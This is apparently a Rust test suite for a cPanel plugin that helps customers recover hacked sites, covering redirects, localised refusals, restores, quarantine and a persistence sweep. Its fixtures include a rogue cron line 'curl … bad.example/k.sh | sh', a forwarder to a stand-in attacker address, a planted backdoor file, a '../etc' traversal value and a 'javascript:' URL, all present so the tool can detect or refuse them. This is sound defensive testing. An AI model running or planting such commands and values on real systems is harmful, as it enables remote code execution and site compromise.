//! The traps on the way, as a customer meets them: every POST ends in 303 → GET (a reload or
//! Back never posts again), a refusal lands on a page that says what happened and offers the
//! way on — the start of the plugin and cPanel's home — in the customer's language.

use crate::harness::*;

/// Where a POST must send the browser.
enum Lands {
    /// A result page: the Location holds this.
    On(&'static str),
    /// A refusal kept as a notice, shown with this status.
    Refused(u16),
}

/// What a customer does, the form's fields, and where they must land.
type Case<'a> = (&'a str, Vec<(&'a str, &'a str)>, Lands);

/// The `id` of the first finding after `needle` on the sweep page whose form posts `action`.
fn finding_id(page: &str, needle: &str, action: &str) -> Option<String> {
    let rest = &page[page.find(needle)?..];
    let rest = &rest[rest.find(&format!("value=\"{action}\""))?..];
    let i = rest.find("name=\"id\" value=\"")? + 17;
    Some(rest[i..].split('"').next()?.to_owned())
}

/// An error page's two ways on, resolved against the page's address, each answering 200.
/// A page with its forms' one-time ids blanked: every rendering gives each form a new one
/// (a form sent twice does its work once), so two views of the same page differ only there.
fn without_once_ids(html: &str) -> String {
    let mut out = String::with_capacity(html.len());
    let mut rest = html;
    let marker = "name=\"once\" value=\"";
    while let Some(i) = rest.find(marker) {
        let start = i + marker.len();
        out.push_str(&rest[..start]);
        rest = &rest[start..];
        rest = &rest[rest.find('"').unwrap_or(0)..];
    }
    out.push_str(rest);
    out
}

fn assert_ways_out(sim: &Sim, b: &Browser, page: &Page, start_label: &str, home_label: &str) {
    assert!(page.body.contains("id=\"problem\""), "the message is the landing anchor: {}", page.text());
    assert!(page.body.contains(&format!("href=\"index.live.cgi\">{start_label}</a>")), "{}", page.body);
    assert!(page.body.contains(&format!("href=\"../index.html\">{home_label}</a>")), "{}", page.body);
    // index.live.cgi and ../index.html relative to …/secure_reopen/index.live.cgi:
    let start = b.get(&b.plugin_url());
    assert_eq!(start.status, 200);
    let home = b.get(&format!("{}{}/frontend/jupiter/index.html", sim.url(), b.token));
    assert_eq!(home.status, 200, "cPanel's home: {}", home.text());
}

#[test]
fn every_action_answers_303_and_every_refusal_lands_on_a_page_with_a_way_on() {
    let sim = Sim::start();
    let b = sim.browser();
    let sweep = b.get(&format!("{}?view=sweep", b.plugin_url())).body;
    let finding = finding_id(&sweep, "bad.example/k.sh", "remove_finding").expect("the rogue cron job");
    let other = finding_id(&sweep, "collector@bad.example", "keep_finding").expect("the forwarder");
    let page = b.plugin();
    let i = page.body.find("name=\"release\" value=\"").expect("the reopen form") + 22;
    let release = page.body[i..].split('"').next().unwrap().to_owned();

    let cases: Vec<Case> = vec![
        ("confirm an item", vec![("action", "attest"), ("item", "attest_computer_scanned")], Lands::On("notice=saved")),
        ("confirm an unknown item", vec![("action", "attest"), ("item", "nope")], Lands::Refused(400)),
        (
            "keep a key",
            vec![("action", "keep_ssh_key"), ("name", "laptop"), ("reason", "my laptop")],
            Lands::On("notice=saved"),
        ),
        (
            "keep without a reason",
            vec![("action", "keep_token"), ("name", "deploy"), ("reason", "")],
            Lands::Refused(400),
        ),
        ("remove a token", vec![("action", "remove_token"), ("name", "deploy")], Lands::On("notice=saved")),
        ("remove a token twice", vec![("action", "remove_token"), ("name", "deploy")], Lands::Refused(502)),
        ("remove a finding", vec![("action", "remove_finding"), ("id", &finding)], Lands::On("view=sweep")),
        ("remove it again (stale tab)", vec![("action", "remove_finding"), ("id", &finding)], Lands::Refused(409)),
        (
            "keep a finding",
            vec![("action", "keep_finding"), ("id", &other), ("reason", "my own forwarder")],
            Lands::On("view=sweep"),
        ),
        ("harden WordPress", vec![("action", "harden_wordpress")], Lands::On("notice=saved")),
        (
            "restore a folder outside the list",
            vec![("action", "restore_start"), ("folder", "../etc"), ("backup", "weekly/2026-11-15")],
            Lands::Refused(400),
        ),
        (
            "restore",
            vec![("action", "restore_start"), ("folder", "public_html"), ("backup", "weekly/2026-11-15")],
            Lands::On("view=restore"),
        ),
        ("continue a finished restore", vec![("action", "restore_continue")], Lands::On("view=restore")),
        ("roll back a finished restore", vec![("action", "restore_rollback")], Lands::On("view=restore")),
        ("a new password sheet", vec![("action", "plan_new")], Lands::On("view=passwords")),
        ("the print view", vec![("action", "plan_print")], Lands::On("print=1")),
        ("apply a sheet that is not the plan", vec![("action", "plan_apply"), ("plan", "x")], Lands::On("refused=")),
        ("own passwords on a forged sheet", vec![("action", "plan_own"), ("plan", "x")], Lands::On("refused=")),
        ("a WordPress sheet from an old page", vec![("action", "wp_plan"), ("seen", "99")], Lands::Refused(409)),
        ("apply a forged WordPress sheet", vec![("action", "wp_apply"), ("plan", "x")], Lands::Refused(409)),
        ("reopen from a stale tab", vec![("action", "reopen"), ("release", "1")], Lands::Refused(409)),
        ("reopen too early", vec![("action", "reopen"), ("release", &release)], Lands::Refused(409)),
        ("an action that does not exist", vec![("action", "delete_everything")], Lands::Refused(400)),
        (
            "delete a copy without ticking the box",
            vec![("action", "quarantine_purge"), ("name", "x")],
            Lands::Refused(400),
        ),
        (
            "delete a copy that is not there",
            vec![("action", "quarantine_purge"), ("name", "20261101-000000-x"), ("confirm", "yes")],
            Lands::Refused(409),
        ),
    ];
    for (what, fields, lands) in cases {
        let csrf = b.plugin().csrf();
        let mut all = vec![("csrf", csrf.as_str())];
        all.extend(fields.iter().copied());
        let r = b.post_raw(&all);
        assert_eq!(r.status, 303, "{what}: {}", r.text());
        let location = r.header("location").unwrap_or_else(|| panic!("{what}: no Location")).to_owned();
        assert!(location.starts_with(&format!("{}/frontend/jupiter/secure_reopen/index.live.cgi", b.token)), "{what}");
        match lands {
            Lands::On(part) => assert!(location.contains(part), "{what}: {location}"),
            Lands::Refused(status) => {
                assert!(location.contains("&n="), "{what}: {location}");
                let url = format!("{}{}", sim.url(), location.split('#').next().unwrap());
                let shown = b.get(&url);
                assert_eq!(shown.status, status, "{what}: {}", shown.text());
                if location.contains("view=notice") {
                    assert!(location.ends_with("#problem"), "{what} lands on the message: {location}");
                    assert_ways_out(&sim, &b, &shown, "Start of Secure &amp; Reopen", "Back to cPanel");
                } else {
                    assert!(location.ends_with("#reopen-h"), "{what}: {location}");
                    assert!(shown.text().contains("Your website was not reopened"), "{what}: {}", shown.text());
                }
                // A reload shows the same page and changes nothing.
                let log = sim.audit_log();
                assert_eq!(
                    without_once_ids(&b.get(&url).body),
                    without_once_ids(&shown.body),
                    "{what}: a reload shows the same"
                );
                assert_eq!(sim.audit_log(), log, "{what}: a reload changes nothing");
            }
        }
    }
    // The downloads are the only POSTs answered with a body: a file, which leaves the page as it is.
    let r = b.post_raw(&[("csrf", &b.plugin().csrf()), ("action", "plan_download_csv"), ("plan", "x")]);
    assert_eq!(r.status, 303, "a forged sheet is not downloaded: {}", r.text());
}

#[test]
fn a_refused_reopen_names_the_steps_by_their_titles_never_their_ids() {
    let sim = Sim::start();
    // "other" uses cPanel in Norwegian.
    for args in [
        &["incident", "open", "other", "--attack-time", "2026-11-01T00:00:00Z", "--no-suspend"][..],
        &["incident", "release", "other"],
    ] {
        let (code, _, err) = sim.admin(args);
        assert_eq!(code, 0, "{err}");
    }
    let customers = [
        (sim.browser(), "Set new passwords for everything"),
        (sim.browser_as("other", "Annen-Konto-Passord-2026"), "Sett nye passord på alt"),
    ];
    for (b, missing) in customers {
        let page = b.plugin();
        let i = page.body.find("name=\"release\" value=\"").unwrap() + 22;
        let release = page.body[i..].split('"').next().unwrap().to_owned();
        let shown = b.post(&[("csrf", &page.csrf()), ("action", "reopen"), ("release", &release)]);
        assert_eq!(shown.status, 409);
        let t = shown.text();
        assert!(t.contains(missing), "{t}");
        for id in ["credentials_rotated", "attest_computer_scanned", "folder_restored", "persistence_reviewed"] {
            assert!(!t.contains(id), "the internal id {id} is shown: {t}");
        }
    }
}

#[test]
fn error_pages_outside_a_post_have_the_ways_on_in_the_customers_language() {
    let sim = Sim::start();
    let mut b = sim.browser();
    let p = b.get(&format!("{}?view=nope", b.plugin_url()));
    assert_eq!(p.status, 404);
    assert_ways_out(&sim, &b, &p, "Start of Secure &amp; Reopen", "Back to cPanel");

    b.lang = Some("nb-NO,nb;q=0.9".into());
    let p = b.get(&format!("{}?view=nope", b.plugin_url()));
    assert_eq!(p.status, 404);
    assert!(p.body.contains("<html lang=\"nb\""));
    assert_ways_out(&sim, &b, &p, "Start på Secure &amp; Reopen", "Tilbake til cPanel");

    // A form posted without its token (a stale tab or another site): refused, nothing changed,
    // and the browser lands on a page it can reload.
    let r = b.post_raw(&[("action", "attest"), ("item", "attest_computer_scanned")]);
    assert_eq!(r.status, 303);
    let shown = b.post(&[("action", "attest"), ("item", "attest_computer_scanned")]);
    assert_eq!(shown.status, 403);
    assert!(shown.text().contains("Ingenting ble endret"), "{}", shown.text());
    assert_ways_out(&sim, &b, &shown, "Start på Secure &amp; Reopen", "Tilbake til cPanel");
    assert!(!sim.audit_log().contains("attested"));

    // Too large a body is refused before any page code runs, still with the ways on.
    let big = "x".repeat(5 * 1024 * 1024);
    let p = b.post_raw(&[("csrf", "x"), ("action", "attest"), ("item", &big)]);
    assert_eq!(p.status, 413);
    assert_ways_out(&sim, &b, &p, "Start på Secure &amp; Reopen", "Tilbake til cPanel");
}

#[test]
fn a_restore_from_a_backup_made_after_the_attack_asks_first_and_says_why() {
    let sim = Sim::start();
    let b = sim.browser();
    let backdoor = sim.home().join("public_html/wp-content/uploads/2026/11/cache-img.php");
    let r = b.submit(&[("action", "restore_start"), ("folder", "public_html"), ("backup", "2026-11-18")]);
    assert_eq!(r.status, 303, "{}", r.text());
    let location = r.header("location").unwrap().to_owned();
    assert!(location.ends_with("?view=restore&late=2026%2D11%2D18&folder=public%5Fhtml#late"), "{location}");
    assert!(!sim.home().join(".secure_reopen/restore.json").exists(), "nothing moved before the customer confirms");
    let warning = b.get(&format!("{}{}", sim.url(), location.split('#').next().unwrap()));
    let t = warning.text();
    assert!(t.contains("This backup was made after the attack"), "{t}");
    assert!(
        t.contains("The backup 18 November 2026 (daily backup) was made after the attack, so it may contain the attacker's files"),
        "{t}"
    );
    assert!(warning.body.contains("name=\"late_ok\" value=\"yes\" required"), "the box must be ticked");
    // Ticked: restored (the backdoor was in that backup, and the checklist says so).
    let r = b.post(&[
        ("csrf", &warning.csrf()),
        ("action", "restore_start"),
        ("folder", "public_html"),
        ("backup", "2026-11-18"),
        ("late_ok", "yes"),
    ]);
    assert_eq!(r.status, 303, "{}", r.text());
    assert!(r.header("location").unwrap().ends_with("?view=restore"));
    assert!(backdoor.exists(), "that backup held the backdoor");
    assert!(b.plugin().text().contains("restored from a backup made after the attack"));
}

#[test]
fn the_steps_say_what_happens() {
    let sim = Sim::start();
    let b = sim.browser();
    let t = b.plugin().text();
    assert!(t.contains("Move the hacked folder away and restore a clean copy"), "{t}");
    assert!(!t.contains("Delete the hacked folder"), "{t}");
}

/// Every quarantined copy listed with size and dates, deleted one at a time and only after the
/// customer ticks the box; a link planted in the quarantine is neither listed nor followed; the
/// technician lists and purges by age; after the reopen the start page reminds of what remains.
#[test]
fn every_quarantined_copy_is_listed_and_deleted_on_its_own() {
    let sim = Sim::start();
    let policy = sim.root().join("var/cpanel/secure_reopen/policy.json");
    std::fs::write(&policy, r#"{"quarantine_days": 7}"#).unwrap();
    let b = sim.browser();
    for backup in ["weekly/2026-11-15", "2026-11-10"] {
        let r = b.submit(&[("action", "restore_start"), ("folder", "public_html"), ("backup", backup)]);
        assert_eq!(r.status, 303, "{}", r.text());
    }
    let q = sim.home().join(".secure_reopen/quarantine");
    let mut names: Vec<String> =
        std::fs::read_dir(&q).unwrap().flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    assert_eq!(names.len(), 2, "{names:?}");
    // A link planted in the quarantine, named like a copy, pointing at the live site.
    let planted = "20261124-000000-public_html";
    std::os::unix::fs::symlink(sim.home().join("public_html"), q.join(planted)).unwrap();

    let page = b.get(&format!("{}?view=restore", b.plugin_url()));
    let t = page.text();
    assert!(t.contains("Quarantined copies of your folders"), "{t}");
    assert!(t.contains("keeps each copy for 7 days"), "{t}");
    for n in &names {
        assert!(page.body.contains(&format!("name=\"name\" value=\"{n}\"")), "a delete form for {n}");
    }
    assert!(!page.body.contains(planted), "a link is not a copy");
    assert_eq!(page.body.matches("value=\"quarantine_purge\"").count(), 2);
    assert!(t.contains("Kept until"), "{t}");
    assert!(page.body.contains(" files"), "sizes and file counts are shown");

    // Not ticked: nothing deleted.
    let r = b.submit(&[("action", "quarantine_purge"), ("name", &names[0])]);
    assert_eq!(r.status, 400);
    assert!(r.text().contains("Nothing was deleted"), "{}", r.text());
    assert!(q.join(&names[0]).is_dir());
    // The planted link: refused, and what it points to is untouched.
    let r = b.submit(&[("action", "quarantine_purge"), ("name", planted), ("confirm", "yes")]);
    assert_eq!(r.status, 409);
    assert!(sim.home().join("public_html/wp-config.php").is_file());
    // Ticked: exactly that copy goes.
    let r = b.post_raw(&[
        ("csrf", &b.plugin().csrf()),
        ("action", "quarantine_purge"),
        ("name", &names[0]),
        ("confirm", "yes"),
    ]);
    assert_eq!(r.status, 303);
    assert!(r.header("location").unwrap().ends_with("?view=restore#quarantine"));
    assert!(!q.join(&names[0]).exists());
    assert!(q.join(&names[1]).is_dir(), "the other copy stays");
    assert!(sim.audit_log().contains(&format!("\"copy\":\"{}\"", names[0])), "{}", sim.audit_log());

    // The technician: a table, then a purge by age that keeps newer copies.
    let (code, out, err) = sim.admin(&["quarantine", "list", "demo"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.starts_with("COPY"), "{out}");
    assert!(out.contains(&names[1]) && !out.contains(&names[0]) && !out.contains(planted), "{out}");
    let (code, out, _) = sim.admin(&["quarantine", "purge", "demo", "--older-than", "1"]);
    assert_eq!(code, 0);
    assert!(out.contains("no quarantined copy is older than 1 days"), "{out}");
    assert!(q.join(&names[1]).is_dir());

    // After the reopen (the technician's override here), the start page says copies remain.
    let (code, _, err) = sim.admin(&["incident", "reopen", "demo", "--force"]);
    assert_eq!(code, 0, "{err}");
    let t = b.plugin().text();
    assert!(t.contains("1 copy of your old folders remains in the quarantine"), "{t}");
    assert!(t.contains("Your host keeps them until"), "{t}");

    let (code, out, err) = sim.admin(&["quarantine", "purge", "demo", "--name", &names[1]]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("deleted"), "{out}");
    assert!(!q.join(&names[1]).exists());
    let (_, out, _) = sim.admin(&["quarantine", "list", "demo"]);
    assert!(out.starts_with("no quarantined copies"), "{out}");
    assert!(std::fs::symlink_metadata(q.join(planted)).is_ok(), "the planted link was never touched");
}

/// The items done elsewhere link to where: cPanel's own pages for two-factor authentication
/// and PHP, and the host's guide in the customer's language; `policy check` checks the guide.
#[test]
fn items_done_elsewhere_link_to_the_page_that_does_them() {
    let sim = Sim::start();
    let policy = sim.root().join("var/cpanel/secure_reopen/policy.json");
    std::fs::write(
        &policy,
        r#"{"guide_url": {"en": "https://host.example/guide", "nb": "https://host.example/veiledning"}}"#,
    )
    .unwrap();
    let (code, out, err) = sim.admin(&["policy", "check"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("guide_url en https://host.example/guide nb https://host.example/veiledning"), "{out}");
    assert!(out.contains("quarantine_days 30"), "{out}");

    let b = sim.browser();
    let page = b.plugin();
    let jupiter = format!("{}/frontend/jupiter/", b.token);
    for (href, label) in [
        (format!("{jupiter}security/2fa/index.html"), "Open Two-Factor Authentication in cPanel"),
        (format!("{jupiter}multiphp_manager/index.html"), "Open MultiPHP Manager in cPanel"),
        ("https://host.example/guide".to_owned(), "Read the guide"),
    ] {
        assert!(page.body.contains(&format!("href=\"{href}\">{label}</a>")), "{label}: {}", page.body);
    }
    // The times say their zone (the test machine's is UTC), the counts their number.
    let t = page.text();
    assert!(t.contains("approximately 18 November 2026, 03:12 UTC"), "{t}");
    assert!(!t.contains(" 1 logins") && !t.contains(" 1 things"), "{t}");

    // Norwegian: the Norwegian guide.
    for args in [
        &["incident", "open", "other", "--attack-time", "2026-11-01T00:00:00Z", "--no-suspend"][..],
        &["incident", "release", "other"],
    ] {
        let (code, _, err) = sim.admin(args);
        assert_eq!(code, 0, "{err}");
    }
    let nb = sim.browser_as("other", "Annen-Konto-Passord-2026").plugin();
    assert!(nb.body.contains("href=\"https://host.example/veiledning\">Les veiledningen</a>"), "{}", nb.text());
    assert!(nb.text().contains("1. november 2026 kl. 00.00 UTC"), "{}", nb.text());

    // A guide that is not a web address is refused by the check, and the page shows no link.
    std::fs::write(&policy, r#"{"guide_url": {"en": "javascript:alert(1)", "nb": "https://host.example/v"}}"#).unwrap();
    let (code, _, err) = sim.admin(&["policy", "check"]);
    assert_eq!(code, 1);
    assert!(err.contains("guide_url.en"), "{err}");
}

/// The review puts the cron job that downloads and runs a script above WordPress's own cron job,
/// each with its level and reasons; a removed item leaves a "removed" line; a kept one can be
/// decided again.
#[test]
fn findings_are_ranked_by_danger_with_their_reasons_and_removals_leave_a_line() {
    let sim = Sim::start();
    let b = sim.browser();
    let url = format!("{}?view=sweep", b.plugin_url());
    let page = b.get(&url);
    let t = page.text();
    let rogue = t.find("curl -s http://bad.example/k.sh | sh").expect("the rogue job is listed");
    let wp_cron = t.find("/home/demo/public_html/wp-cron.php").expect("WordPress's job is listed");
    assert!(rogue < wp_cron, "the job that downloads and runs a script comes first: {t}");
    assert!(t[..rogue].contains("Backdoor: remove it"), "{t}");
    assert!(t[rogue..].contains("Downloads code from the internet and runs it."), "{t}");
    let before_wp = &t[..wp_cron];
    assert!(before_wp[before_wp.rfind("Scheduled task").unwrap() - 12..].contains("Check it"), "{t}");

    let id = finding_id(&page.body, "bad.example/k.sh", "remove_finding").unwrap();
    assert_eq!(b.submit(&[("action", "remove_finding"), ("id", &id)]).status, 303);
    let t = b.get(&url).text();
    assert!(t.contains("Already removed"), "{t}");
    let line = &t[t.find("Already removed").unwrap()..];
    assert!(line.contains("Removed") && line.contains("curl -s http://bad.example/k.sh | sh"), "{line}");

    let id = finding_id(&b.get(&url).body, "wp-cron.php", "keep_finding").unwrap();
    assert_eq!(b.submit(&[("action", "keep_finding"), ("id", &id), ("reason", "WordPress's own")]).status, 303);
    let page = b.get(&url);
    assert!(page.text().contains("Kept : WordPress's own"), "{}", page.text());
    let forms = |body: &str| body.matches(&format!("name=\"id\" value=\"{id}\"")).count();
    assert_eq!(forms(&page.body), 1, "a kept item has only its undo");
    let r = b.post_raw(&[("csrf", &page.csrf()), ("action", "unkeep_finding"), ("id", &id)]);
    assert_eq!(r.status, 303);
    assert!(r.header("location").unwrap().ends_with(&format!("?view=sweep#f-{id}")));
    let page = b.get(&url);
    assert_eq!(forms(&page.body), 2, "decided again: remove or keep");
    assert!(sim.audit_log().contains("finding_unkept"));
}

/// A key is shown as the customer can recognise it: the fingerprint `ssh-keygen -l` prints for
/// the key file cPanel keeps (`~/.ssh/NAME.pub`), its comment and its date.
#[test]
fn ssh_keys_show_the_fingerprint_ssh_keygen_prints_with_comment_and_date() {
    let sim = Sim::start();
    // cPanel keeps the public key in ~/.ssh/NAME.pub (the simulator lists keys without
    // writing their files, so the test puts the file there, made by ssh-keygen).
    let ssh = sim.home().join(".ssh");
    std::fs::create_dir_all(&ssh).unwrap();
    let key = ssh.join("laptop");
    let made = std::process::Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "owner@laptop", "-f"])
        .arg(&key)
        .status()
        .expect("ssh-keygen");
    assert!(made.success());
    let out = std::process::Command::new("ssh-keygen").arg("-lf").arg(key.with_extension("pub")).output().unwrap();
    let printed = String::from_utf8(out.stdout).unwrap();
    let want = printed.split_whitespace().nth(1).expect("ssh-keygen prints the fingerprint").to_owned();
    assert!(want.starts_with("SHA256:"), "{printed}");

    let t = sim.browser().plugin().text();
    let at = t.find("laptop Remove key").or_else(|| t.find("laptop")).unwrap();
    let row = &t[at..];
    assert!(row.contains(&format!("Fingerprint {want}")), "{row}");
    assert!(row.contains("Comment owner@laptop"), "{row}");
    assert!(row.contains("Added or changed"), "{row}");
}

/// A token or key kept on purpose can be decided on again, and root's own check follows the
/// customer's change of mind (the gate reads the same audit events).
#[test]
fn a_kept_key_can_be_decided_again_and_roots_check_follows() {
    let sim = Sim::start();
    let b = sim.browser();
    assert_eq!(b.submit(&[("action", "remove_token"), ("name", "deploy")]).status, 303);
    assert_eq!(b.submit(&[("action", "keep_ssh_key"), ("name", "laptop"), ("reason", "my laptop")]).status, 303);
    let refused_steps = |b: &Browser| {
        let page = b.plugin();
        let i = page.body.find("name=\"release\" value=\"").unwrap() + 22;
        let release = page.body[i..].split('"').next().unwrap().to_owned();
        let shown = b.post(&[("csrf", &page.csrf()), ("action", "reopen"), ("release", &release)]);
        assert_eq!(shown.status, 409);
        let at = shown.body.find("role=\"alert\"").expect("the refusal");
        let end = shown.body[at..].find("</section>").unwrap() + at;
        Page { status: 409, headers: Vec::new(), body: shown.body[at..end].to_owned() }.text()
    };
    let before = refused_steps(&b);
    assert!(!before.contains("Remove old API tokens and SSH keys"), "kept and removed: {before}");

    let page = b.plugin();
    assert!(page.body.contains("value=\"unkeep_ssh_key\""), "the kept key has its way back");
    assert!(page.text().contains("laptop · Kept : my laptop"), "{}", page.text());
    let r = b.post_raw(&[("csrf", &page.csrf()), ("action", "unkeep_ssh_key"), ("name", "laptop")]);
    assert_eq!(r.status, 303);
    assert!(r.header("location").unwrap().ends_with("#item-tokens_keys_reviewed"));
    let page = b.plugin();
    assert!(page.body.contains("value=\"remove_ssh_key\""), "the key is back to decide on");
    assert!(sim.audit_log().contains("\"event\":\"ssh_key_unkept\""));
    let after = refused_steps(&b);
    assert!(after.contains("Remove old API tokens and SSH keys"), "root sees the key as open again: {after}");
}
